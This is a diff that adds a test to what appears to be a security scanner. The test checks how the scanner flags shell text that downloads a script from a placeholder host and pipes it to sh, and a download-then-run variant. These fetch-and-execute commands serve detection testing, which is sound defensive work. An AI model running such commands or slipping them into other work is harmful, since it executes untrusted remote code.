@@ -206,3 +206,13 @@ def test_a_link_out_of_the_source_is_a_risk(folder: str, target: str, out: bool)
     path = f"{folder}/notes" if folder else "notes"
     met = Finding("bundle.symlink", "warning", f"{path} is a symbolic link to {target}: not followed")
     assert ("risk.path.link-out" in {one.code for one in crawled([met])}) is out
+
+
+def test_a_pipe_that_a_rule_tells_of_is_not_told_again_as_a_flow() -> None:
+    piped = "curl -s https://get.example.net/x | sh\n"
+    told = [
+        {one.code for one in scan_files([TextFile(text, "a.sh")])[0]}
+        for text in (piped, f"{piped}curl -s https://get.example.net/x -o x\nsh x\n")
+    ]
+    flow = "risk.remote.fetched-run"
+    assert ["risk.remote.pipe-to-shell" in codes and flow in codes for codes in told] == [False, True]
